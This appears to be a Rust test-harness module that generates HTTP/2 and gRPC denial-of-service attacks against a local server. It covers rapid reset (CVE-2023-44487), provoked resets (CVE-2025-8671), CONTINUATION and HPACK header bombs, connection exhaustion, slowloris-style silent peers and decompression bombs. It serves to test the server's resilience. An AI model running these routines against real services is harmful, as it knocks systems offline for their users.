//! Attacks on the transport, each as large as it is asked to be.

use std::io::Write as _;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, Seen, WINDOW_UPDATE, Wire, call, field, frame, settings, stream,
};

/// Longest time of one attack.
const LONGEST: Duration = Duration::from_secs(30);
/// What a call asks.
pub(crate) const COMPARE: &str = "/policyecho.v1.ComparisonService/Compare";
pub(crate) const INFO: &str = "/policyecho.v1.InfoService/GetInfo";

/// Where attacks come from: an address for every 50 connections, as many as one peer may have and some.
pub(crate) fn peer(index: usize) -> Ipv4Addr {
    let [high, low] = (index as u16 / 50 + 2).to_be_bytes();
    Ipv4Addr::new(127, 1, high, low)
}

/// The frame that opens the n-th stream for a call and leaves it open.
pub(crate) fn open_call(index: usize, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(index), &call(path, more))
}

/// The prefix of a message.
pub(crate) fn prefix(flag: u8, length: u32) -> Vec<u8> {
    [&[flag][..], &length.to_be_bytes()].concat()
}

/// A frame of data of the n-th stream.
pub(crate) fn data(index: usize, payload: &[u8]) -> Vec<u8> {
    frame(DATA, 0, stream(index), payload)
}

async fn open(server: SocketAddr) -> Wire {
    Wire::open(server, peer(0), &[]).await.expect("the server accepts")
}

/// Sends bytes on one connection, waits until the server says the last word or a ping after them is answered.
async fn pour(server: SocketAddr, bytes: Vec<u8>) -> Seen {
    let mut wire = open(server).await;
    wire.send(&bytes, LONGEST).await;
    wire.read_until(Duration::from_secs(3), |seen| seen.closed).await;
    wire.seen
}

/// Opens `count` calls on one connection and leaves all of them open.
pub(crate) async fn streams(server: SocketAddr, count: usize) -> Seen {
    pour(server, (0..count).flat_map(|index| open_call(index, COMPARE, &[])).collect()).await
}

/// Opens a call and resets it, `count` times (CVE-2023-44487).
pub(crate) async fn rapid_reset(server: SocketAddr, count: usize) -> Seen {
    let one = |index| {
        let reset = frame(RST_STREAM, 0, stream(index), &8u32.to_be_bytes());
        [open_call(index, COMPARE, &[]), reset].concat()
    };
    pour(server, (0..count).flat_map(one).collect()).await
}

/// What a client does to have the server reset a call (CVE-2025-8671).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Provocation {
    /// A window that grows by nothing.
    ZeroWindow,
    /// A window that grows over its bound.
    WindowOverflow,
    /// A stream that depends on itself.
    SelfDependence,
    /// A priority of a wrong length.
    WrongPriority,
    /// Data after the end of the stream.
    DataAfterEnd,
    /// Headers after the end of the stream.
    HeadersAfterEnd,
}

pub(crate) const PROVOCATIONS: [Provocation; 6] = [
    Provocation::ZeroWindow,
    Provocation::WindowOverflow,
    Provocation::SelfDependence,
    Provocation::WrongPriority,
    Provocation::DataAfterEnd,
    Provocation::HeadersAfterEnd,
];

/// Opens `count` calls, one after another, and has the server reset each.
pub(crate) async fn made_you_reset(server: SocketAddr, provocation: Provocation, count: usize) -> Seen {
    let one = |index| {
        let id = stream(index);
        let ended = frame(HEADERS, END_HEADERS | END_STREAM, id, &call(COMPARE, &[]));
        let opened = open_call(index, COMPARE, &[]);
        let provoking = match provocation {
            Provocation::ZeroWindow => frame(WINDOW_UPDATE, 0, id, &0u32.to_be_bytes()),
            Provocation::WindowOverflow => frame(WINDOW_UPDATE, 0, id, &0x7fff_ffffu32.to_be_bytes()),
            Provocation::SelfDependence => frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[7]].concat()),
            Provocation::WrongPriority => frame(PRIORITY, 0, id, &[0; 4]),
            Provocation::DataAfterEnd => return [ended, data(index, b"abc")].concat(),
            Provocation::HeadersAfterEnd => {
                return [ended, frame(HEADERS, END_HEADERS | END_STREAM, id, &call(COMPARE, &[]))].concat();
            }
        };
        [opened, provoking].concat()
    };
    pour(server, (0..count).flat_map(one).collect()).await
}

/// A header block that never ends.
pub(crate) async fn continuations(server: SocketAddr, count: usize) -> Seen {
    let mut bytes = frame(HEADERS, 0, 1, &call(COMPARE, &[]));
    let mut more = Vec::new();
    field("x", "y", &mut more);
    bytes.extend(frame(CONTINUATION, 0, 1, &more).repeat(count));
    pour(server, bytes).await
}

/// Frames of data with `payload` each, on one call.
pub(crate) async fn small_data(server: SocketAddr, payload: &[u8], count: usize) -> Seen {
    let mut bytes = open_call(0, COMPARE, &[]);
    bytes.extend(data(0, payload).repeat(count));
    pour(server, bytes).await
}

/// Frames that ask for an answer or for nothing, sent by a peer that does not read. Gives the peer.
pub(crate) async fn unread_controls(server: SocketAddr, kind: u8, count: usize) -> Wire {
    let one = match kind {
        PING => frame(PING, 0, 0, &[7; 8]),
        SETTINGS => settings(&[(INITIAL_WINDOW_SIZE, 65_535)]),
        _ => frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7]),
    };
    let mut wire = open(server).await;
    // A server that waits for us to read takes no more, which is right.
    wire.send_blindly(&one.repeat(count), Duration::from_secs(3)).await;
    wire
}

/// `calls` calls on each of `connections` connections, each with `fields` references to one remembered header, whose
/// answers may not be sent ("HTTP/2 bomb"). Gives the connections.
pub(crate) async fn header_bombs(server: SocketAddr, connections: usize, calls: usize, fields: usize) -> Vec<Wire> {
    let mut wires = Vec::new();
    for connection in 0..connections {
        let Ok(mut wire) = Wire::open(server, peer(connection), &[(INITIAL_WINDOW_SIZE, 0)]).await else { continue };
        let mut bytes = Vec::new();
        for index in 0..calls {
            let mut block = call(COMPARE, &[]);
            if index == 0 {
                // Literal with incremental indexing: the first entry of the table of headers to remember, 62.
                block.push(0x40);
                block.extend([1, b'x', 1, b'y']);
            }
            block.extend(std::iter::repeat_n(0x80 | 62, fields));
            for (piece, part) in block.chunks(16_000).enumerate() {
                let kind = if piece == 0 { HEADERS } else { CONTINUATION };
                let end = if (piece + 1) * 16_000 >= block.len() { END_HEADERS } else { 0 };
                bytes.extend(frame(kind, end, stream(index), part));
            }
        }
        wire.send(&bytes, LONGEST).await;
        wires.push(wire);
    }
    wires
}

/// `count` connections, as many as may be from one address. Gives those that the server has not closed after `settle`.
pub(crate) async fn connections(server: SocketAddr, count: usize, settle: Duration) -> usize {
    let mut wires = Vec::new();
    for _ in 0..count {
        // Beyond our own descriptors nothing more can be asked.
        let Ok(wire) = Wire::open(server, Ipv4Addr::new(127, 2, 0, 1), &[]).await else { continue };
        wires.push(wire);
    }
    let mut open = 0;
    let deadline = tokio::time::Instant::now() + settle;
    for wire in &mut wires {
        let rest = deadline.saturating_duration_since(tokio::time::Instant::now()).max(Duration::from_millis(1));
        // A server that keeps a connection sends its settings.
        open += usize::from(wire.read_until(rest, |seen| !seen.settings.is_empty()).await);
    }
    open
}

/// How far a peer comes before it falls silent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Silence {
    /// It says nothing.
    AtOnce,
    /// Half of the preface.
    InThePreface,
    /// The preface and half of its settings.
    InTheSettings,
    /// Half of the headers of a call.
    InTheHeaders,
    /// The headers of a call, and half of a frame of its message.
    InTheData,
}

pub(crate) const SILENCES: [Silence; 5] =
    [Silence::AtOnce, Silence::InThePreface, Silence::InTheSettings, Silence::InTheHeaders, Silence::InTheData];

/// `count` peers that fall silent. Gives the longest time after which one was let go, or `None` if one was not.
pub(crate) async fn silent_peers(server: SocketAddr, silence: Silence, count: usize) -> Option<Duration> {
    let headers = open_call(0, COMPARE, &[]);
    let opening = [PREFACE, &settings(&[])].concat();
    let bytes = match silence {
        Silence::AtOnce => Vec::new(),
        Silence::InThePreface => PREFACE[..11].to_vec(),
        Silence::InTheSettings => [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, 65_535)])[..12]].concat(),
        Silence::InTheHeaders => [&opening, &headers[..headers.len() / 2]].concat(),
        Silence::InTheData => [&opening, &headers, &data(0, &prefix(0, 9))[..11]].concat(),
    };
    let mut tasks = tokio::task::JoinSet::new();
    for index in 0..count {
        let mut wire = Wire::bare(server, peer(index)).await.ok()?;
        wire.send_blindly(&bytes, LONGEST).await;
        let begun = tokio::time::Instant::now();
        tasks.spawn(async move { wire.is_closed(LONGEST).await.then(|| begun.elapsed()) });
    }
    tasks.join_all().await.into_iter().collect::<Option<Vec<_>>>()?.into_iter().max()
}

/// `calls` calls on each of `connections` connections, each with the beginning of a message that never ends: the prefix
/// says `length`, and `sent` bytes come. Gives the connections.
pub(crate) async fn half_messages(
    server: SocketAddr,
    connections: usize,
    calls: usize,
    length: u32,
    sent: usize,
) -> Vec<Wire> {
    let mut tasks = tokio::task::JoinSet::new();
    for connection in 0..connections {
        let Ok(mut wire) = Wire::open(server, peer(connection), &[]).await else { continue };
        tasks.spawn(async move {
            for index in 0..calls {
                wire.send(&open_call(index, COMPARE, &[]), LONGEST).await;
                wire.send_data(stream(index), 0, &prefix(0, length), LONGEST).await;
            }
            let piece = vec![b'a'; 16_000];
            for _ in 0..sent.div_ceil(piece.len()) {
                // A call that was refused takes no more; the others go on.
                let open: Vec<usize> = (0..calls).filter(|index| !wire.seen.is_done(*index)).collect();
                if open.is_empty() {
                    break;
                }
                for index in open {
                    wire.send_data(stream(index), 0, &piece, Duration::from_millis(200)).await;
                }
                if wire.seen.closed {
                    break;
                }
            }
            wire
        });
    }
    tasks.join_all().await
}

/// A message that unpacks to `length` zeros.
pub(crate) fn bomb(encoding: &str, length: usize) -> Vec<u8> {
    let packed = match encoding {
        "gzip" => {
            let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            let zeros = vec![0; 1 << 16];
            (0..length.div_ceil(zeros.len())).for_each(|_| encoder.write_all(&zeros).expect("memory"));
            encoder.finish().expect("memory")
        }
        _ => {
            let mut encoder = zstd::stream::write::Encoder::new(Vec::new(), 3).expect("memory");
            let zeros = vec![0; 1 << 16];
            (0..length.div_ceil(zeros.len())).for_each(|_| encoder.write_all(&zeros).expect("memory"));
            encoder.finish().expect("memory")
        }
    };
    [prefix(1, packed.len() as u32), packed].concat()
}

/// `calls` calls on one connection, each with a whole message `message`, packed as `encoding` says.
pub(crate) async fn messages(server: SocketAddr, calls: usize, encoding: &str, message: &[u8]) -> Seen {
    let mut wire = open(server).await;
    for index in 0..calls {
        wire.send(&open_call(index, COMPARE, &[("grpc-encoding", encoding)]), LONGEST).await;
        let expected = index as u64 + 1;
        let answered = |seen: &Seen| seen.ended + seen.reset_count() >= expected;
        let pieces = message.chunks(16_000).count();
        for (number, piece) in message.chunks(16_000).enumerate() {
            let end = if number + 1 == pieces { END_STREAM } else { 0 };
            if answered(&wire.seen) || !wire.send_data(stream(index), end, piece, LONGEST).await {
                break;
            }
        }
        wire.read_until(Duration::from_secs(10), answered).await;
    }
    wire.seen
}
